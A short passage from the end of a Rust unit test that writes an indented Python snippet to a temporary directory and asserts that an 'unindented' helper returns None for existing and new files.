        std::fs::write(dir.path().join("block.py"), "    x = 1\n").unwrap();
        assert_eq!(unindented(dir.path(), "block.py", "    x = 2\n"), None);
        assert_eq!(unindented(dir.path(), "new.py", "    x = 2\n"), None);
    }
}
